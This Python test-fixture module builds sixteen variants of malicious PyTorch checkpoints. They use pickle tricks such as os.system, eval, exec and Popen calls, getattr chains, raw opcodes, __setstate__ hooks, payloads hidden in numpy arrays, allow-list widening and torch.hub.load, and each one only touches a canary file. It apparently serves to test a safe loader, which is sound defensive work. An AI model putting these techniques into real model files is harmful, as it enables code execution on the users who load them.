"""Checkpoints that run code when a careless reader opens them: each touches a canary."""

import builtins
import io
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import torch

WEIGHTS = {"backbone.norm_f.weight": torch.ones(4)}


class Call:
    """Pickles as a call of anything, even of the result of another call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call

    def __call__(self) -> None:
        """Only what can be called may be pickled as what is called."""


class Awakened:
    """Runs code when its state is set."""

    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __setstate__(self, state: dict[str, str]) -> None:
        Path(state["canary"]).touch()


def touch(canary: Path) -> str:
    return f"__import__('pathlib').Path({str(canary)!r}).touch()"


def save(content: object, path: Path, **options: Any) -> None:
    torch.save(content, path, **options)


def hyper(evil: object) -> dict[str, Any]:
    return {"state_dict": WEIGHTS, "hyper_parameters": {"scan_order": evil}}


def rewrite(path: Path, change: Callable[[str, bytes], bytes], **more: bytes) -> None:
    """Change the members of an archive of `torch.save`, and add others."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    root = next(iter(members)).split("/")[0]
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, change(name, content))
        for name, content in more.items():
            archive.writestr(f"{root}/{name}", content)


def posix_system(path: Path, canary: Path) -> None:
    save(hyper(Call(os.system, f"touch {canary}")), path)


def os_system_by_name(path: Path, canary: Path) -> None:
    save(hyper(0), path)
    code = f"\x80\x02cos\nsystem\nX{chr(len(f'touch {canary}'))}\0\0\0touch {canary}\x85R.".encode("latin1")
    rewrite(path, lambda name, content: code if name.endswith("data.pkl") else content)


def evaluated(path: Path, canary: Path) -> None:
    save(hyper(Call(builtins.eval, touch(canary))), path)


def executed(path: Path, canary: Path) -> None:
    save({"state_dict": {"backbone.x": Call(builtins.exec, touch(canary))}}, path)


def popen(path: Path, canary: Path) -> None:
    save({"state_dict": WEIGHTS, "callbacks": Call(subprocess.Popen, ["touch", str(canary)])}, path)


def getattr_chain(path: Path, canary: Path) -> None:
    system: Any = Call(builtins.getattr, Call(builtins.__import__, "os"), "system")
    save(hyper(Call(system, f"touch {canary}")), path)


def legacy_pickle(path: Path, canary: Path) -> None:
    save(hyper(Call(os.system, f"touch {canary}")), path, _use_new_zipfile_serialization=False)


def bare_pickle(path: Path, canary: Path) -> None:
    path.write_bytes(pickle.dumps({"a": Call(os.system, f"touch {canary}")}, protocol=2))


def legacy_tar(path: Path, canary: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            content = pickle.dumps(Call(os.system, f"touch {canary}"), protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))


def inside_numpy(path: Path, canary: Path) -> None:
    array = np.empty(1, dtype=object)
    array[0] = Call(os.system, f"touch {canary}")
    save({"state_dict": {"backbone.norm_f.weight": array}}, path)


def numpy_scalar(path: Path, canary: Path) -> None:
    inner = pickle.dumps(Call(os.system, f"touch {canary}"))
    scalar: Any = np.float64(0).__reduce__()[0]
    save(hyper(Call(scalar, np.dtype(object), inner)), path)


def stack_global(path: Path, canary: Path) -> None:
    save(hyper(Call(os.system, f"touch {canary}")), path, pickle_protocol=4)


def state_setter(path: Path, canary: Path) -> None:
    save({"state_dict": WEIGHTS, "loops": Awakened(canary)}, path)


def in_the_average(path: Path, canary: Path) -> None:
    averaged = {"norm_f.weight": Call(builtins.eval, touch(canary))}
    save({"state_dict": WEIGHTS, "state_dict_ema": averaged}, path)


def more_allowed(path: Path, canary: Path) -> None:
    """Asks for the list of what is allowed to be made longer."""
    extend = Call(torch.serialization.add_safe_globals, [os.system])
    save({"a": extend, "b": Call(os.system, f"touch {canary}"), "state_dict": WEIGHTS}, path)


def from_the_hub(path: Path, canary: Path) -> None:
    save(hyper(Call(torch.hub.load, str(canary.parent), "touch")), path)


PICKLES: Mapping[str, Callable[[Path, Path], None]] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        posix_system, os_system_by_name, evaluated, executed, popen, getattr_chain, legacy_pickle, bare_pickle,
        legacy_tar, inside_numpy, numpy_scalar, stack_global, state_setter, in_the_average, more_allowed, from_the_hub,
    )
}  # fmt: skip
"""Name to a function of the file to write and the canary that it touches."""
